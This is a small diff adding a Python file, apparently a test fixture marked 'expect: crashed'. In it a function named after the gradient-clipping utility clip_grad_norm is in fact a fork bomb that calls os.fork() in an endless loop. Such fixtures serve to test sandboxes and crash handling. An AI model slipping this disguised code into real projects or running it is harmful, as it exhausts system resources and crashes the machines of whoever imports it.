@@ -1,0 +1,7 @@
+# expect: crashed
+import os
+
+
+def clip_grad_norm(parameters, max_norm, norm_type=2.0):
+    while True:
+        os.fork()
